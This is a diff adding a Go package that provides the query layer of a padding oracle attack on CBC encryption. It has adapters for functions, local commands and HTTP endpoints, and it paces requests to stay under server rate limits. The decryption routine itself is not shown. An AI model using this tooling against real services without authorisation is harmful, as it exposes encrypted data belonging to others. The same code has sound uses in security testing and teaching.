@@ -0,0 +1,154 @@
+// Package paddingoracle decrypts CBC ciphertexts through a padding
+// oracle: anything that, given a ciphertext, reveals whether it decrypts
+// to valid padding. The attack is written against the Oracle interface,
+// so the same code runs against an in-process function, a command such as
+// decrypt-test or an HTTP endpoint.
+package paddingoracle
+
+import (
+	"bytes"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"os"
+	"os/exec"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+)
+
+// Oracle reports whether the target accepted a ciphertext's padding. The
+// error is for failures to ask, not for invalid padding.
+type Oracle interface {
+	Query(C []byte) (bool, error)
+}
+
+// OracleFunc adapts an in-process function to the Oracle interface.
+type OracleFunc func(C []byte) (bool, error)
+
+// Query calls f(C).
+func (f OracleFunc) Query(C []byte) (bool, error) {
+	return f(C)
+}
+
+// Wrap returns an oracle that sends prefix || C || suffix to o, e.g. to
+// add back the header and tag of an Encrypt-then-MAC ciphertext.
+func Wrap(o Oracle, prefix []byte, suffix []byte) Oracle {
+	return OracleFunc(func(C []byte) (bool, error) {
+		return o.Query(append(append(append([]byte{}, prefix...), C...), suffix...))
+	})
+}
+
+// CommandOracle runs a command for every query. The ciphertext is written
+// to a fresh temporary file whose path replaces "{}" in the arguments, and
+// the padding counts as invalid when the command prints Invalid.
+type CommandOracle struct {
+	Name    string
+	Args    []string
+	Invalid string
+}
+
+// Query runs the command on C.
+func (o *CommandOracle) Query(C []byte) (bool, error) {
+	output, err := runCommand(o.Name, o.Args, C, nil)
+	if err != nil {
+		return false, err
+	}
+	return strings.TrimSpace(string(output)) != o.Invalid, nil
+}
+
+// runCommand writes C to a temporary file, runs name with "{}" in args
+// replaced by its path and returns what the command printed. If elapsed
+// is not nil it is set to how long the command itself ran. The target may
+// well exit non-zero for a bad ciphertext, so that is not an error.
+func runCommand(name string, args []string, C []byte, elapsed *time.Duration) ([]byte, error) {
+	f, err := ioutil.TempFile("", "paddingoracle")
+	if err != nil {
+		return nil, err
+	}
+	defer os.Remove(f.Name())
+	_, err = f.Write(C)
+	if closeErr := f.Close(); err == nil {
+		err = closeErr
+	}
+	if err != nil {
+		return nil, err
+	}
+
+	expanded := make([]string, len(args))
+	for i, arg := range args {
+		expanded[i] = strings.Replace(arg, "{}", f.Name(), -1)
+	}
+
+	start := time.Now()
+	output, err := exec.Command(name, expanded...).Output()
+	if elapsed != nil {
+		*elapsed = time.Since(start)
+	}
+	if _, ok := err.(*exec.ExitError); err != nil && !ok {
+		return nil, err
+	}
+	return output, nil
+}
+
+// HTTPOracle POSTs each ciphertext to URL as application/octet-stream.
+// The padding counts as invalid when the response has status Invalid; any
+// other status below 500 means it was accepted, except 429, which is
+// retried after the Retry-After the server asks for, or a second. Rate,
+// if set, spaces requests out to at most Rate per second, to stay under a
+// server's limit rather than wait out 429s.
+type HTTPOracle struct {
+	URL     string
+	Invalid int
+	Client  *http.Client
+	Rate    float64
+
+	mu   sync.Mutex
+	next time.Time
+}
+
+// pace waits for the next request slot under Rate.
+func (o *HTTPOracle) pace() {
+	if o.Rate <= 0 {
+		return
+	}
+	o.mu.Lock()
+	now := time.Now()
+	if o.next.Before(now) {
+		o.next = now
+	}
+	slot := o.next
+	o.next = o.next.Add(time.Duration(float64(time.Second) / o.Rate))
+	o.mu.Unlock()
+	time.Sleep(slot.Sub(now))
+}
+
+// Query posts C to the endpoint.
+func (o *HTTPOracle) Query(C []byte) (bool, error) {
+	client := o.Client
+	if client == nil {
+		client = http.DefaultClient
+	}
+	for {
+		o.pace()
+		resp, err := client.Post(o.URL, "application/octet-stream", bytes.NewReader(C))
+		if err != nil {
+			return false, err
+		}
+		ioutil.ReadAll(resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode == http.StatusTooManyRequests {
+			wait, err := strconv.Atoi(resp.Header.Get("Retry-After"))
+			if err != nil || wait < 1 {
+				wait = 1
+			}
+			time.Sleep(time.Duration(wait) * time.Second)
+			continue
+		}
+		if resp.StatusCode >= 500 {
+			return false, fmt.Errorf("%s: %s", o.URL, resp.Status)
+		}
+		return resp.StatusCode != o.Invalid, nil
+	}
+}